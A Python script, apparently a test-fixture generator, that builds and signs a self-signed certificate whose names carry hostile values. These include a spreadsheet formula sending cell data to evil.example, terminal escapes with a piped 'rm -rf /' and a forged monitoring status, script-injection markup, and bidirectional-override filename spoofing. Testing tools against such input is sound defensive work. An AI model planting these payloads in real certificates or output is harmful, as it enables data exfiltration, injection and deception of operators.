#!/usr/bin/env python3
"""hostile.py KEY: on standard output a self-signed certificate whose names attack whoever shows them.

Terminal escapes, '|', line breaks, markup, a spreadsheet formula, bidirectional overrides and bytes
that are no UTF-8 stand in subject, issuer and subjectAltName.  Valid as all leaves of make.sh.
"""
import base64
import subprocess
import sys

FORMULA = b'=HYPERLINK("http://evil.example/?"&A1,"open")'
TERMINAL = b"\x1b]0;owned\x07\x1b[31mred\x1b[0m|rm -rf /\r\nnagios: OK\n"
MARKUP = b"</script><script>alert(1)</script>'\"&]]>"
STEERING = "left\u202egnp.exe\u2066x\u2028y\u0085z\u200f\ufeff\ufffe".encode("utf-8")
BROKEN = b"\xff\xfe\xc0\x80\xed\xa0\x80\x9b31m"
UTF8, T61 = 0x0C, 0x14  # OpenSSL reads no certificate with broken UTF8Strings
LABEL = b'a="b",c\\'


def tlv(tag, *parts):
    body = b"".join(parts)
    size = len(body)
    if size < 128:
        return bytes([tag, size]) + body
    length = size.to_bytes((size.bit_length() + 7) // 8, "big")
    return bytes([tag, 0x80 | len(length)]) + length + body


def oid(text):
    parts = [int(part) for part in text.split(".")]
    out = [40 * parts[0] + parts[1]]
    for part in parts[2:]:
        digits = [part & 0x7F]
        while part := part >> 7:
            digits.insert(0, 0x80 | part & 0x7F)
        out += digits
    return tlv(0x06, bytes(out))


def attribute(kind, value, tag=UTF8):
    return tlv(0x31, tlv(0x30, oid(kind), tlv(tag, value)))


def extension(kind, value):
    return tlv(0x30, oid(kind), tlv(0x04, value))


def openssl(*words, data=None):
    return subprocess.run(["openssl", *words], input=data, stdout=subprocess.PIPE, check=True).stdout


key = sys.argv[1]
name = tlv(0x30, attribute("2.5.4.10", TERMINAL), attribute("2.5.4.11", MARKUP),
           attribute("2.5.4.11", STEERING), attribute("2.5.4.11", BROKEN, T61),
           attribute("2.5.4.7", LABEL), attribute("2.5.4.3", FORMULA))
sans = tlv(0x30, *(tlv(0x82, text) for text in
                   (b"box.example.com", FORMULA, TERMINAL, MARKUP, STEERING, BROKEN, LABEL, b"+1", b"@x", b"-2")))
algorithm = tlv(0x30, oid("1.2.840.113549.1.1.11"), tlv(0x05))
tbs = tlv(0x30, tlv(0xA0, tlv(0x02, b"\x02")), tlv(0x02, b"\x01\x02\x03"), algorithm, name,
          tlv(0x30, tlv(0x17, b"261101000000Z"), tlv(0x17, b"270129235959Z")), name,
          openssl("pkey", "-in", key, "-pubout", "-outform", "DER"),
          tlv(0xA3, tlv(0x30, extension("2.5.29.17", sans))))
signature = openssl("dgst", "-sha256", "-sign", key, data=tbs)
pem = base64.encodebytes(tlv(0x30, tbs, algorithm, tlv(0x03, b"\x00" + signature)))
print("-----BEGIN CERTIFICATE-----\n" + pem.decode() + "-----END CERTIFICATE-----")
